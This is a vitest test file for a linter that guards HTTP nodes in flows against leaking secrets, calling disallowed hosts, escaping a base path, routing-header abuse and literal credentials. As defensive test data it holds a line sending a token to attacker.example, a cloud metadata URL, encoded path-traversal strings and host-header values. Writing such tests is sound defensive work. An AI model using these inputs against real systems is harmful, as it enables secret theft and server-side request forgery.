import { describe, expect, it } from 'vitest';
import { lintFlow } from '../../lint/lintFlow.ts';
import { secretLeaks } from '../../lint/secretLeaks.ts';
import type { LintContext } from '../../lint/lintContext.ts';
import { Flow, type FlowInput } from '../../schema/flow.ts';
import { sampleFlowInput } from '../../fixtures/sampleFlow.ts';

/** The sample flow's look-up, changed: it sends `{{secret.OPERATOR_TOKEN}}` in its Authorization header. */
function flowWithLookup(change: (lookup: Record<string, any>) => void): Flow {
  const input: FlowInput = sampleFlowInput();
  change(input.nodes.find((n) => n.id === 'lookup') as Record<string, any>);
  return Flow.parse(input);
}
const errors = (flow: Flow, context?: LintContext) =>
  lintFlow(flow, context)
    .filter((i) => i.severity === 'error')
    .map((i) => `${i.code}:${i.node}:${i.field}`);

const deployment: LintContext = { secretBackends: { OPERATOR_TOKEN: ['operator'], CRM_TOKEN: ['crm', 'billing'], LEGACY: '*' }, allowedHosts: ['api.example.com', '*.operator.bj'] };

describe('where an http node may send secrets', () => {
  it('accepts a secret sent to a backend it is bound to', () => {
    expect(
      errors(
        flowWithLookup(() => {}),
        deployment,
      ),
    ).toEqual([]);
    expect(
      errors(
        flowWithLookup((n) => {
          n.headers = { 'X-Key': '{{secret.LEGACY}}' };
        }),
        deployment,
      ),
    ).toEqual([]);
  });

  it('always refuses a secret in a request to an absolute URL, in any field, even without the deployment’s rules', () => {
    const leaking = flowWithLookup((n) => {
      delete n.backend;
      n.url = 'https://attacker.example/collect?t={{secret.OPERATOR_TOKEN}}';
      n.method = 'POST';
      n.body = '{"token":"{{secret.OPERATOR_TOKEN}}"}';
    });
    expect(errors(leaking)).toEqual(['secret.outsideBackend:lookup:url', 'secret.outsideBackend:lookup:headers.Authorization', 'secret.outsideBackend:lookup:body']);
    expect(lintFlow(leaking).find((i) => i.code === 'secret.outsideBackend')?.message).toMatch(/lookup would send secret OPERATOR_TOKEN to an address written in the flow/);
    expect(secretLeaks(leaking).map((i) => i.node)).toEqual(['lookup', 'lookup', 'lookup']);
    // A URL from a variable is no better than one written out.
    expect(
      errors(
        flowWithLookup((n) => {
          delete n.backend;
          n.url = '{{segment}}';
        }),
      ),
    ).toContain('secret.outsideBackend:lookup:headers.Authorization');
  });

  it('with the deployment’s rules, refuses a secret sent to a backend it is not bound to, or not configured at all', () => {
    const toCrm = flowWithLookup((n) => {
      n.backend = 'crm';
    });
    expect(errors(toCrm, deployment)).toEqual(['secret.notBound:lookup:headers.Authorization']);
    expect(lintFlow(toCrm, deployment).find((i) => i.code === 'secret.notBound')).toMatchObject({
      message: 'secret OPERATOR_TOKEN may be sent only to backend operator, not to crm',
      params: { secret: 'OPERATOR_TOKEN', backend: 'crm', allowed: 'operator' },
    });
    expect(secretLeaks(toCrm, deployment)).toHaveLength(1);
    // Without the rules (the pure lint), a named backend is trusted.
    expect(errors(toCrm)).toEqual([]);

    const unknown = flowWithLookup((n) => {
      n.headers = { Authorization: 'Bearer {{secret.OTHER}}' };
    });
    expect(errors(unknown, deployment)).toEqual(['secret.notConfigured:lookup:headers.Authorization']);
    // Not configured is a refusal to publish, not a leak: the runtime has no value to send.
    expect(secretLeaks(unknown, deployment)).toEqual([]);
  });

  it('limits absolute URLs to the allowed hosts', () => {
    const to = (url: string) =>
      flowWithLookup((n) => {
        delete n.backend;
        n.headers = {};
        n.url = url;
      });
    expect(errors(to('https://api.example.com/v1/{{caller.number}}'), deployment)).toEqual([]);
    expect(errors(to('https://is.operator.bj/x'), deployment)).toEqual([]);
    expect(errors(to('https://user@API.example.com:8443/x'), deployment)).toEqual([]);
    expect(errors(to('http://169.254.169.254/latest/meta-data/'), deployment)).toEqual(['http.hostNotAllowed:lookup:url']);
    expect(errors(to('https://api.example.com.evil.com/'), deployment)).toEqual(['http.hostNotAllowed:lookup:url']);
    expect(errors(to('https://api.example.com/'), { ...deployment, allowedHosts: [] })).toEqual(['http.noOutsideHosts:lookup:url']);
    expect(lintFlow(to('https://x.example/'), { allowedHosts: [] }).find((i) => i.code === 'http.noOutsideHosts')?.message).toMatch(/calls no address outside its named backends/);
    expect(lintFlow(to('https://x.example/'), deployment).find((i) => i.code === 'http.hostNotAllowed')?.params).toEqual({ host: 'x.example' });
    // Without the rules, the host is not judged here (the runtime still is).
    expect(errors(to('http://169.254.169.254/'))).toEqual([]);
  });
});

describe('where a look-up to a named backend may go', () => {
  const withUrl = (url: string) =>
    flowWithLookup((n) => {
      n.url = url;
    });

  it('flags a URL that climbs out of the backend’s base path, however the dots are written', () => {
    for (const url of ['/../readyz', '../readyz', '/a/../../internal-admin/users', '/%2e%2e/x', '/.%2E/x', '/%252e%252e/x', '/./x', '/a%2Fb', '/a%5cb', '/a\\b', '/{{segment}}/..']) {
      expect(errors(withUrl(url)), url).toEqual(['http.pathEscape:lookup:url']);
    }
    expect(lintFlow(withUrl('/../readyz')).find((i) => i.code === 'http.pathEscape')).toMatchObject({ params: { backend: 'operator' }, message: expect.stringContaining('".." is a dot segment') });
  });

  it('accepts paths, placeholders and queries that stay under it', () => {
    for (const url of ['/subscribers/{{caller.number}}', 'subscribers/{{caller.number}}/puk', '/v1.2/files/report.json', '/a..b/x', '/search?path=../x&q={{segment}}']) {
      expect(errors(withUrl(url)), url).toEqual([]);
    }
  });

  it('flags headers that change where the request goes or how it is framed, in any case', () => {
    for (const header of [
      'Host',
      'host',
      'X-Forwarded-For',
      'x-forwarded-host',
      'Forwarded',
      'X-Real-IP',
      'Content-Length',
      'Transfer-Encoding',
      'Connection',
      'TE',
      'Upgrade',
      'Proxy-Authorization',
    ]) {
      const flow = flowWithLookup((n) => {
        n.headers = { ...n.headers, [header]: 'admin.gateway.internal' };
      });
      expect(errors(flow), header).toEqual([`http.routingHeader:lookup:headers.${header}`]);
      expect(lintFlow(flow).find((i) => i.code === 'http.routingHeader')?.params).toEqual({ header });
    }
    // What an API asks for is fine.
    const ordinary = flowWithLookup((n) => {
      n.headers = { ...n.headers, Accept: 'application/json', 'X-Request-Id': '{{segment}}', 'Content-Type': 'application/json' };
    });
    expect(errors(ordinary)).toEqual([]);
  });

  it('warns of a backend the server does not have, in the environments it lacks', () => {
    const backends = { staging: ['operator', 'billing'], production: ['operator'] };
    const unknown = (flow: Flow) => lintFlow(flow, { backendNames: backends }).filter((i) => i.code === 'http.unknownBackend');
    expect(unknown(flowWithLookup(() => {}))).toEqual([]);
    const typo = unknown(
      flowWithLookup((n) => {
        n.backend = 'biling';
      }),
    );
    expect(typo).toMatchObject([{ severity: 'warning', node: 'lookup', field: 'backend', params: { backend: 'biling', environments: 'staging, production', known: 'billing, operator' } }]);
    const stagingOnly = unknown(
      flowWithLookup((n) => {
        n.backend = 'billing';
      }),
    );
    expect(stagingOnly).toMatchObject([{ params: { backend: 'billing', environments: 'production' } }]);
    // Without the server's list, nothing is said.
    expect(lintFlow(flowWithLookup((n) => (n.backend = 'biling'))).some((i) => i.code === 'http.unknownBackend')).toBe(false);
  });
});

describe('credentials written in an http node', () => {
  it('refuses a token, password or API key written out rather than named as a secret, wherever in the request', () => {
    const cases: Array<[string, (lookup: Record<string, any>) => void, string]> = [
      ['a bearer token pasted from curl', (n) => (n.headers = { Authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.abc.def' }), 'headers.Authorization'],
      ['an API key header', (n) => (n.headers = { 'X-Api-Key': 'k-7f3a9c2e11' }), 'headers.X-Api-Key'],
      ['a session cookie', (n) => (n.headers = { Cookie: 'JSESSIONID=8a7b6c5d4e3f' }), 'headers.Cookie'],
      ['a token in the query', (n) => (n.url = '/subscribers/{{caller.number}}?api_key=0123456789abcdef'), 'url'],
      ['a password in a JSON body', (n) => ((n.method = 'POST'), (n.body = '{"msisdn": "{{caller.number}}", "client_secret": "s3cr3t-v4lue"}')), 'body'],
    ];
    for (const [what, change, field] of cases) {
      expect(errors(flowWithLookup(change), deployment), what).toEqual([`http.literalCredential:lookup:${field}`]);
    }
    const outside = flowWithLookup((n) => {
      delete n.backend;
      n.url = 'https://svc:Pa55word-long@api.example.com/lookup';
      n.headers = {};
    });
    expect(errors(outside, deployment)).toEqual(['http.literalCredential:lookup:url']);
    expect(lintFlow(outside).find((i) => i.code === 'http.literalCredential')?.params).toEqual({ where: 'user:password@' });
  });

  it('takes a credential named as a secret, or built from the contact’s values, for what it is', () => {
    for (const headers of [
      { Authorization: 'Bearer {{secret.OPERATOR_TOKEN}}' },
      { Authorization: 'Basic {{secret.LEGACY}}' },
      { Authorization: 'Bearer {{accessToken}}' },
      { 'X-Api-Key': '{{secret.LEGACY}}' },
      { 'X-Request-Id': '0123456789abcdef0123' },
      // A scheme's own names around the secret, a cookie that is no credential beside the one named.
      { Authorization: 'SharedKey griotaccount:{{secret.STORAGE_KEY}}' },
      { Authorization: 'OAuth oauth_consumer_key="griot-selfcare", oauth_token="{{secret.OAUTH_TOKEN}}"' },
      { Cookie: 'lang=fr; device=ivr-gateway; SESSION={{secret.CRM_SESSION}}' },
    ]) {
      expect(
        errors(
          flowWithLookup((n) => {
            n.headers = headers;
          }),
          deployment,
        ).filter((e) => e.startsWith('http.literalCredential')),
        JSON.stringify(headers),
      ).toEqual([]);
    }
    expect(
      errors(
        flowWithLookup((n) => (n.url = '/subscribers/{{caller.number}}?token={{secret.OPERATOR_TOKEN}}&lang=fr')),
        deployment,
      ),
    ).toEqual([]);
  });

  it('takes text a documentation or a template writes instead of a credential (YOUR_API_KEY, <token>, xxx) for no credential', () => {
    const placeholders: Array<(lookup: Record<string, any>) => void> = [
      (n) => (n.headers = { Authorization: 'Bearer YOUR_API_KEY' }),
      (n) => (n.headers = { Authorization: 'Bearer <token>' }),
      (n) => (n.headers = { 'X-Api-Key': 'xxxxxxxxxxxx' }),
      (n) => (n.headers = { 'X-Api-Key': '<your-api-key>' }),
      (n) => (n.headers = { Authorization: 'Basic [credentials]' }),
      (n) => (n.headers = { 'X-Auth-Token': 'your-token-here' }),
      (n) => (n.headers = { 'X-Auth-Token': 'CHANGEME_TOKEN' }),
      (n) => (n.headers = { 'X-Auth-Token': '********' }),
      (n) => (n.headers = { 'X-Auth-Token': 'votre-jeton-ici' }),
      (n) => (n.headers = { 'X-Auth-Token': 'INSERT API KEY HERE' }),
      (n) => (n.url = '/subscribers/{{caller.number}}?api_key=YOUR_API_KEY'),
      (n) => ((n.method = 'POST'), (n.body = '{"msisdn": "{{caller.number}}", "client_secret": "<client secret>"}')),
    ];
    for (const change of placeholders) {
      const flow = flowWithLookup(change);
      expect(errors(flow, deployment), JSON.stringify(flow.nodes.find((n) => n.id === 'lookup'))).toEqual([]);
    }
    // Real values stay flagged, even with a word of a placeholder in them.
    // A password of letters only is a credential too, whatever word it starts with or holds.
    for (const value of [
      'Bearer yourcompany-4f9a2b7c1d',
      'Bearer XKEYTOKENABCD1234',
      'Bearer xxxx1234yyyy',
      'Basic mysecretpassword',
      'Bearer MyCompanyPortalAccess',
      'Bearer enterprisegateway',
      'Bearer PASSKEYALPHABRAVO',
      'Bearer YOUR_COMPANY_SECRET_KEY_ZULU',
    ]) {
      expect(
        errors(
          flowWithLookup((n) => (n.headers = { Authorization: value })),
          deployment,
        ),
        value,
      ).toEqual(['http.literalCredential:lookup:headers.Authorization']);
    }
  });
});

describe('a secret sent to a backend on plain http://', () => {
  const plainStaging: LintContext = { ...deployment, plainHttpBackends: { staging: ['operator'], production: [] } };
  const warnings = (flow: Flow, context: LintContext) => lintFlow(flow, context).filter((i) => i.code === 'http.plainHttpSecret');

  it('is warned of where the secret is written, naming the environments; without a secret, or on https, nothing is said', () => {
    const withSecret = flowWithLookup((n) => (n.headers = { Authorization: 'Bearer {{secret.OPERATOR_TOKEN}}' }));
    expect(warnings(withSecret, plainStaging)).toEqual([
      expect.objectContaining({ severity: 'warning', node: 'lookup', field: 'headers.Authorization', params: { backend: 'operator', environments: 'staging' } }),
    ]);
    expect(warnings(withSecret, { ...deployment, plainHttpBackends: { staging: [], production: [] } })).toEqual([]);
    expect(warnings(withSecret, deployment)).toEqual([]);
    expect(
      warnings(
        flowWithLookup((n) => (n.headers = {})),
        plainStaging,
      ),
    ).toEqual([]);
  });
});
